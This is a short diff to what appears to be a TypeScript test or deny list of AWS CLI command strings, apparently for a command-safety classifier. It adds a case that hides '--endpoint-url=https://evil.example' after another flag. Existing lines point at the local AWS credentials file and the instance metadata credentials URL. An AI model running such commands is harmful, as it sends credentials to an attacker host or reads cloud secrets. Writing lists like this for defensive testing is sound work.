@@ -202,6 +202,7 @@ const classes: readonly Class[] = [
       "aws ec2 describe-instances --endp https://evil.example",
       "aws ec2 describe-instances --cli-input-json file://request.json",
       "aws ec2 describe-instances --cli-in '{}'",
+      "aws ec2 describe-instances --instance-ids --endpoint-url=https://evil.example i-1",
       "aws myalias describe-things",
       "aws ec2 describe-tags --filters file:///root/.aws/credentials",
       "aws ec2 describe-tags --resource-ids=http://169.254.169.254/latest/meta-data/iam/security-credentials/r",
